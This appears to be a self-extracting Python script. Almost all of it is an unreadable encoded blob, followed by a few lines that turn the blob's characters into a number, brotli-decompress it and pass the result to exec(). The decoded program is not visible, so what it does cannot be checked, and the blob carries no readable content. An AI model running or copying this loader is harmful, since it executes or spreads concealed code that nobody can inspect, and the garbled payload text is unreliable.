l]GX=gɐ:àjѦ"q1~{<e`(IUg(MMn@TTs0mse~^f߱48!=7*%ï9*6l?|wC%s=l2AcRnE0=egс#į90&+yH:˲F˪LHvL$7k-]q+۳4)Wz201ӯVҗuB4A*TBMSݼL>*3'BwYմYsM\e#^	ZW.ث#HƽS>5GkkVW|Q6]ڰJk3= +/&o¼{<;#&\'l<%)ʛowօ:]M	̔!R<_e>*H~L]oѠƇ
4M-^+d]<H;>9xv13j8ҬyPG.
).)v6C=ΠQ%ۻW8Ku`y"1*5rFFk39)['ݽ
-a	]uN'sF2)	4ӡtHU6t2γɪ6Ǽ:jr~вf'[ނo4+&nebf_v$FJx!OxǼRI72vzԮ1(8ұ<$5yd>`ҹGߔz0|k\I;aMvVq8|^chj(|t}ڛaͳpǢxң/֚'8 @ۑ3GimP_`LдJH˅%/`OArW-H!2[vq+YSwa'ҩt3sP|ܩ~Ư5zPSjʮp
P$@cW)2o5fx("uw}unJx eʳUڗr!Ǝ:e[W|>ڣ\		%܏	soD3Ӡ-Êa6" -I{HGհ_5v4Ly~ ׸Y!*G=$@5=N8ì޿RCßޢ#`^jU3џ:&&I+z!l2ՎYP;FQOJ(1C'gqÊߕCɹծ#P]Ĺx-uri=Cjx:o'6!YEU,pcLTy1oeۧ_ʅݠ/ߗM˱6+X]:U_ e3\NB'<Ǖ?42WӮ=$N!VF+ fS\!H;LX԰J¿&bzP0"ȪY!_r˸{PCo-VǿwjVzX]kbp{jƨR,J+q%w!v?}Hδw.:G2VQcF2n	؉3g%J_tVZr
	c,Rvl}|d,,ZǄzyb$¡spW*ڗ/4X-Z"٤0Xy־Äa)xF_ߨhW)%`Uő#}I9MKv[N m(yF>kۼtCSIPOFuץ8\9hQ,2ե$/]tl1\>	C*ٷ8bɞ
40ACO̀>R}Gy2ʘqtŴ-q7=׺עuN<L~u{5T#C?HdA>et@EXòlK`EX*@AXhڦݨۤa$̖=w)X]>ΏHez+	wIFK 9~Ť-Qf8_ۓڻl߱dC(]H.WM|\H	E|lP,I.#8gL~_]C¤ayۣ`vD!$ތe0YbU3wY)&AS@\~_~)*zJ>.]ci2j X<Ǝ:Su+-NI9̔3s+/Qqº0żbGe_WF*qҚVɷYْ`߼T|'NJw
KctyW(W̉gGj!
]0ՐMFUn	IHl."RӐGYJ^\}9Q}6BP&KՏJcp ɈFA j}gmS1Qb
f-xIݻth6{K
\ޒѽ
bTkݭ]"ޣWn!0lמ>gԔ۰fb *kXp5[*:QL6%.~)ց!ZbdSdpBIBvkcЋQ#שG^8~_	F^Oŧ~:_Fʮzta ŬYg.d
ݴ<%OI~$ݟ^qLDHX.{Dy[>TÚVyѬ>H847n=,9f
CxmքXqų4ͤ/ˆL*e.mrIiܤ؋Sխ¯%ڪ߹*Sz)Uφ
Ѵ=JajFC_}Ѷy\bwۡI?%N(Ip>s
9yGOhM4ݕ^'(BkϭUNd	UGlPɚr5e8۪av5uHR!!mxܬ.Gk˥TՑt.`i7J@B)Pg9r4e8is}M+Cj%r$IګLvOϬɹluj۴h؉':5Pj"L{hG)<$ǘl
NZuևeg=IcVBf).,"CbGk;??MZh։s·OCҧi`ҍ<MXq޹Fsr{B~3sdH	B}hρZhŸh^PK ˑ:Y3wӮg O*@8Ł/2ń?ۇXý^Qke' {,#[j^UѳHx8/U8GD4lGS[{(z\p<F$PQ)8
ӇieJ`E-=ȚU)řMn3)bX,UCyz(D:ZJȟ)>1(Ҋ;)(P/Qf7[Ϥ*1X5Vs6C(	xoiz2-OSyݥ2B֢G~ܛlJ؁$r_8	&8yǰx{S;LD#).Vט$CkefnS<UaK*AdI"skQMhol-In9#Wz
F6~\/FKD c `1(޸KO#((V,)ܠQ{C_#P>qF<μ}?ё
hI9@k$<}Oѫeq,I<.U}BӬڎ8ys#tЦ!$vАa9TxI2?roykj<Vt͘Bճ3Y_]-zH/LӚ	Oad;ӍXnRҾ?Q:@ION
UqAQ1Cb]9M5Ȁg1FO=ՅGu9yӍYhA?%{G$3e!ӵ~TO=nz?ǘH/S3ԇSdTّēxh&!S7<Yo~~!
qy>MҾ#S2Irr;~L~3P.	!ș*4]vI۱CŧܧB)x^);%B߃"y\Lӎi\\)3q̀_e?_^יckj]C;!s)|ԋ΂$'P^&}_mgƲ9ja@4(Iwb{nMm'(NdbhW($אѯ[[YEN%U$Oi1ϥ<ϻuW+q?yqeɹAoQHe(=ovq6(S4aEőYiBQN	+oБkʭƦBBsѮ(NCdCMrYs=xKvZ8eҊ?A
%J'V9?
{K̀,xE./@kaRlFpLԔRc	,&׻*KIZ[p7#^ɶgo'zNѢxHp}hUmFZ}UQØ/:ȩn^~aŉn~+
Y$cɮJ.m_SںE`}.;ѐkż:vyēzB؞SGIpS;ΐV2fˢ܉)3h"!L9/}k~)!$ (./vU<Wt|~,Ҫ4!KV2A&fpdH5d;-ANeoQ}iϣl|Iw"ɖ͘[&ĭx_8#5*E*LJ-[i0י@v_wp0(TƿJ[3´T6
na!ԉb0R1#̂-CR1H(Ğ&*V:S$ARh9q9դ}80
զEv&(6eƬ7ZZA} Epg#ў9LCt(^t<K`4n=jtؔm@xHֆ\1$rͥޜ7i٤bUӺZ+1$#d34LȈkiYzntڒMɽ<HodmJq!6,f8gff~"ԥ?˨Az0iR:{>Vd<
sZ1aͯk@Ħ֦BlZZޙ$i$Cbrùkȧg@Ӌrk{j`Ӆ4ބ?_lĖ1\ܬ}xO[3MX\RcrKxEr/pOm)|ahu,8@zX(&>[a*vZbؤk$v"_b],4ѩxzRĬ(D:˰3(cvhVi'[~aݧ.`Vqxq\DA~X=bv&EvOݑnQd|:A<&g)CDeZ"O(O,_n˵9Ĭ8؜9_p0@G
<Ai!bn7n74<Zf׊z3dLU!v4'|A\S:5G`o9Tc H"lNT+W
1QhFxpҋo]n]πڵxad8Rfe	Ҕ=ҍv<is	1Dh-V%hҊ'OȾ#-UT1+ܩY,TL%r8E^ځ!7`{^lA ̡uMFFq`s
;H+[hk[[l=r?Ƅ}.	lEbߝn}	Hg3M*ǜƏd<iL*ǵ~^۾79\34\Y;cNCzC,ɝӂ?&Vu$9e<2_ާ!	̪fFѶΣ]Zb*
ݵC-(}{Cc*::h<NKmLbiYjt[6ew6GX;b|YI/.-``zZ%h[[&5llBp>25dLG̞0`\JZZPޅqKGneŝ5^ŭ[ی	3!5W25CɸX0~j=h	H/IӠ
8۔	C(q$Ӧ7U ̯	!&j?msZϽWCK.pĠ-#w@aBx,&?gH%2.ʸQ`ڱObT:V֙T~kl]&
E
˫ƥuA|T4ӳ͸NݛmM%]>UøIp{_NjSY"8ʑ+#|t'jg_kU#2$k'jIϩUw|FFVi!צ_>tyl~zcs)/v{!`XmTÅNK}EóXzXblN&;п>E?	Rg4gшF|@3!S]Ϭ͊+m;3[ʓDUיMyoȘ3gS|"lـnfel'M{֗l=Ά/wsR~.DĈ7lL^̀J
Aideѱ,\/ƹȉL<cHOM@>H˥8s$:j)ϝ<)9mӥƘ^qIYԮ3ۉ5 f	ʺ`G߯?X1S<?9 cg8Iל [mnJ1X^϶<LG|ܱlOufAl^I2!WOZF,xף`b*މ'Z/dahNv=9ă"^`EރiWoU.BW.qn3gKW4>w[~d?!eʛsn	%;SnSJL5>iN3)	Ҫ`+=a~'ʲJpLKo&3D4ntD\9#=hM9ʠA~C)Ȓx:!NyĜϏ[#K}OyO+A"aŞ+N9&0
 |ʊ&8^\u$>Qx2aZIP~οܕ(ϼJDCÒѡC>޼ѷAXF]3wۂ¿W!>,]&AVNKdMzVȨ٩Ɏ@ic:fh۟`vxxRC`Uv\ٕLAEM׌{k)S4].@!Q,pO^FKw`1	݉^{5~*ٷ 8N}(Ӌ:|A'6V*;܉~
ξߤZHiedsERBbwpf. s87&ٸ$SX7=VRߺ~ÑEa׻XRMSG(Bú {|T?W+7U![X>E	n'ǟ%}/Bݧd:*c IYܟ}Iov?
Дa,X!yA!(b!(C8uxD_~QvAL{o}sFůnYٹyפ>)qǗVDjj;4|l'HRܒCZkS:C<@f82v֜ĭm@:J.KYq$A<	G*fcd[ $rI@cv50bTƚ͡>Bv!_$ϳ.CDNsxFݑZ!b[<\~nMˁeҩΥZnARĦ:{s~m$9n}##SX!\P	( |LLRZJio'UY! ؅!qc#=P)TppV{ձK0J},ڤfVs
5HF]Q5b&šŢdmƸUUJYo9ԢGB˹8m1҆i-*5mɿlTap;8o4eЊm֐ ߦpڜBlIԋEjIqS2]ōiC%HgӀN~[ngc`UVă|vYp'M1,9zm{8raIXd}P#r*5X}4eqFBq{:H%;Wz^M}4 !
:=+a؀VJwTF8l+*ݑu9[Q>РåU܉519e`N:qe7F714šo*nƝ*nSh"Z֨װVXV[zajR\uC
g>6Chǃl==-ˇ2q'q1h*4AKdQi&CbN^wƌX",6p O.C~̽4 عzs>ٳ#kY"/zoqc`,&FI^~>gRlǘ3H?Śn:~j_W:Q4`e4<hø60#_t=w4]@X7;wޡO[Y"۟jpcpP݃T!3lgF8ya1x&9Z6Joџ>~?$'17Ę#K1Yxט?aMhHweoZc6*b}уR(/1<("[Kϛ~aֹ͚2(?sPWLӽ[}ff=%bl{ԓC$ȯ<nN/-)aN.'eIwA!ީk_BVB^b	L %)6I˧ZMpN!XWȻ2gFm@˓ʕyj	Qו6
nTchϑ^&[4+یܰ2]LHXjBF]1%eM8	!80ԕf\cFr;nIGDS
IV>`T`8nwgtijݑۂS166=˭f.{؃WZHz*w}~;QՅ!Ժw͐ar?NTIh5,E4\zx}W$h{#2B=' ΄C'a0Vj!ly"N?Җj
)Vyv7G|g">WSMUҒ7f;*FĊ`Vrp:?>c@Tw2LrtУ>֌+:d(2 }ʙZGGF1ϊ62c4}RFŜmUC[l{W׳əaNiHeSV"_	=~F_6/oPLc5@dI|Gi8:Y|%QJю&ʁ~0.`QD׬:r+vMJӧ#z[|:ـ~K?O8;		xr.у%<Ȩ6eBKxo/k8\C	K׋'5

<FRQ;6qC,ݦwXI/J[[^;-|\Uߎ+t5m27zňY9CηVڹ|;<bb[ŕ> y9m\~a"ڱ
?jW	*`DX<!_~~Q'ug6JpH8?un=Qҍ? <;g!#ڙxK6X:k\T16vý>]؆ؔo)%^SՏU|cυg{CfŨ2 ؀=ut^;W6gߞ3eqo6ܺf:8%ثl)VC;PwhDqe$ !juxD3@[ܮD#&I%X|E2OŴޛ }f;2@I+m>=dˊ4o3K
85ҾxZKtNwCB/KKeO(w313c˽߁"^@XB*Hnf#6߃E{zTɲ,	#+]>L͒A
OحȁI>>&1\40b$[8eאRqȍT.Rˇ_L3r"SB5nFۺ=`A@c
 ?O)&P~.f?)y9 {*|~H8d¨Q[LWϿ}rmYyԲTc.S_ȡO@^$,N+NJCxXBNkU(k|5S	t=c"
k&̣7/Y&Ŵ~?Ĳ>ڝؕպT[	0ZS|KG4 58?Cny2o)ـٗ=I%9s{5BLԚ:ލܰYںO@9۵(gZoN?:G;8lUVnŹ%^5$_(BxAߺZ)ڳͦ	7)ҹl2O~ScVU7L/oic$l{&Xk#~8Ƶ*۞2I>JF˨@ f~>/<ATtЇpF_©FHG2dK1ņ2fX*T(\&'\QͿ$ΝWnc*,Pֵhmxt?ґrɣ	:B3\-C٦{@ʚwQJPpBfHM̯1͎UЖiqޤOG`5z \5<%3Ѝnv158cHDv~|J]],A
ԧ"/צAD&X> TۭVǓھU^)!hĞ|iq#ly'2Jb.]o$˼{e ղCn(&'fGs@ i}ņ~2?YJjFo41&nͰ0Zڷ!'Y&	Χ
 +3h>5TN#ƺ+͏ʃzk[_>NP*F|uAopl`Ύ1`ĤܕRet|	܆
CWȬ)j͌Q$ǩ?JķhEAM2R@C5@EA`(vWJm_p}xrwFWZȨMhe CjΣ{TQ_t{#IaР4)fQ'E;tHs3%`33;,
w1G<;u
0҆Ъ5e	h{ًEgLd^SHFaMmѸgK'kcU:t.5%zNZԚgAM=xȟ}eRђJ!ȶ:R qG+kL1TfzJgbs)GÜT xwxk=$%<zM5d;b~[5ԷwڏtMKݢñ˺vbxƖb)ũlϊ~ǀQ̰̙sr~uu?$KhٮtА7ˍN`+֡#usg0ܐώ̥Gfm?q6|!sPiy{oa+ =	q?Oף9Jޏ,*&®ocO+5iE\\l6SpO@V?l-<HFdO٫8O<cHyh5ˍ(`׳Є`4CpULkw1וgjʶ!j)W]F!nX9>RA3O11x2JyzjZUg{{T
b&\rK_m۰}6ʋA`0E-hӪY&	M>w4HJ9ٛz~(˰qK\4o_hhΉʴktO1 r2]nVlSQjsUۏ2޹kK}sO&ęP0Z$UR[{5؎3FdVvBߞU#}.\Wuŷ-G|?]"U^Mn%Lqi//]s;NBH*u˴VH.ξAqZ<lfM4ܗ3X/#ǴϣOѰ,l֠L؈G9rLp55,%SE0vZ#j5uN
au	}Vu555HNoތ?$	y 	U7H@ĉ
@DXufv3	=`Ҽԡ,F2*Q,	0IՐJs"0@Q5Z,1HV2TNa3_Hmҗ_Ao	ps%_mwj0D0تƕ|aE>~cuYYӁ
}ŲDyŰ8SBhF+~[ :9i+%0S?yߔ8ft>	wRsv38$;#TzT]Pb7&	ۍU2Qߚ@^&|U"Rsb;$eZEWRQ:vf{a^_[:cA99Uܜ@E<<\*
EA%Xl+JeCa=C'_oΒK;:/#08s?2sH;seL:[VˠM1qxfx<9S0sZ ժU~rCsǋ#S
._:6̹r1-}Ց
1k<GѽK̅-ҕ).#%w{Fс^Σ%6b`#oI٫;F>ܣoӣ'zVژӾOCA4:E-p`Ơ2HLɅ'9ѨTH'JY^f3WxgM-p;P?9diU1Ѷ
y%6vRB[jڮũ?*FO<-LϞnon֋ggKAH#І*w<\rW9kQY
p˕sn)p\C//Ci#jJ0g`
[qGNƇkA{ˠ]j߾Vm6	6KvrjZ̈́W%F$ACsѸRKǒPD"Fv=?4b)|uP?drA&*Hs=^\+**[(n'24JܳޏRt5^& MҪ~&vʫ̺0աoN&t7TX߬uEn[;W&\Ɂ(<z}yΊ)KŖ}H}p-;ڻֽ;ZgXݚ6iQȬSvHbECspnSNfƔ?.9	B"*؁&b+d]ΠZFiޤwxbN62Ǥ>R@([jBB\ܼ0Gsހ5!j*F&`ոY#&4Az"@VrΜA^E7cE0Wt>͎'WZwp[
4"M~k>	8F=g78SeXdQ6H=1T+~`Pwˑހn:HhXc1K]Ι>?&@S,~މ\E<\,GiFҀ&Z;~WΝ"@=Xźlc%<j!z7p̀*8t_&B|dO|9Kۖ:+xxXm5TsӺ#O9fs1Ѫh84E^~֎h"tCA%yXӔF*
`[ru}<ƍ֎ݛaĮ"R>M4zQ`ȔkB?;/00S6bW,]&5z~12pp;}`$#нz]ɒf?*Пsv1HW-F~BZ[Z܄;r>QY-WvtӚQ;-x><yϢǃAԅ*B,/+K66>jعP4ہz]=S$C-[WߥMRUJ`"5{\b.KJ xܱ$ט7!ւ(z|taENۖ~TʃeKK}S %^<
Q2xZv'>])",OvsRI	r`H5\a,!<;rCdD.!CzcU(h	w٥p]m׿vŢ0X%pͩnωtwwU&=p\"<eoaL wyW'ߛ:#>YDZ"JR34	ytބ`W/Z3[}.գ5	Mٜwū@6 !0rph5ʇMlV]t>gІ>ɯ-6vJz͚\!rZʕ%xd9qA̰mѭd
{؊Yyd"sU;)8zqr_;*|m@q7S@ShxfsQZ*wU.;gU#LJ'NrK,/]yr~GRvX!ZRةM-IHa_R4Ćw_kTh1{DxGk
zAϞ_*ϥy#sOOh,(E!HBZ=},vvz:85Ґ~Y	kݭgAn[	j[S#ōnOzj%#ت'#KOrudɟԬFܑ9-32;&7e&`reLIAa[ϫ?/WM`t'a(,{GրڔQKvƿ'ǍaʛL0|&>Nw?V|_'gYIrnÒ8ck|qPPekʽCc	b4b*,\BhN%SڼecEX8!|Mg
Ֆ5z(n5+Y|p.M
j,]ޫZ ./4 v2gu~	΂ʛM )Ǭ9}K.Z"cP?~ߥEf<	7ն<(9;WL<vϴrMM8~*4;@.b2E?J0?ݚT2cʶзMy*w֣Pq!ܟ>#̀Х>xJG<pp1I̋W00.E#Vnly`j5hD/~u!Y:Hʘe|oeXAңyu"p3o&uJk'Ws!ghϴܔ<Cn(|d>/?!}P?2lR_^݀@Aʸsn@ּ	هS1C	ϖy9t3H3qGYK%Oظjyb-5Rg|%&@ybuVip[[1"aa*a#nd6Egp53P,сO_mixe^1}aWn`D(0iq[V!,@/IjYŞ"7S1vA<e6FLep܀'$}>*tqُfP0R#6ښBP$=q(h<Iэz"m@Txl7HX4)z~QvMЈ\5*DEkQc''s,Ř D*8u2La0n0Dnч>S@-2-spcZrce5-͟=*6ߙSyw
]4ab-GL<u=:
6RfD-2$̀|G)QW(
kR5C,xQT	i`_-$ƙ:b]Т"ďz~e)O+(jhz}M{j՘o~sJɩDv.Yl)j	,Ea'f'A6ufa͈Πc +[ڣFSӂ	|M#1-tߌ+JGG;&SKɊ(ŕzE@m޳EنB=;i1߂,O(Џϳ#,bÏF!<amrwʕ&?d(`_ZL>>Vpy3UYЬbt	6ZR3fD.e=.O{-v؞ۯ`ħT?EZ6FT?G=e< cSUo.Ύ'1!k%w+@@RͮFn'E;vK*۲cԲobhkhac-JB]g@]cAH1}޶2/;4K:ք#lX֥"h$+D7Lހ-R¿܉d?tӋlHPs="E0fD9Rđ1S9Wf5p =͵_Ǚ{݃Ϗ݉(U^^ތ\W/21x?ٵNN^4zpvDTnk;*n(xq}f~[4V̖2lXWL8VAɒzj.8I3Рh..ȵƒ]Ϩ
$q\5ăVu+ww?X/"˝њaZKd6I}XndWͽ({DKm'7kvD8qX/SބɨToƶYZ4õ~̼b,`aU-عΓ3۴$=D3iz=tkZU7r?5wۺv wsbڶj!+>JmMZpm\Ldl,֜9d`SQSUَZҦI̗١̿xYokAR`҃ohȖa`|"F'o	қ~t4C`",
tfoL//οn'm/_"FZ
.Ey8<.*
mA:`t!w@i"ŏtgb"t7҅(ÀhùOӞ~Ɠ5w$h{U0d´=pg
Jd+ql]P"cߕaeZQA8ڈDs''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(25325)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
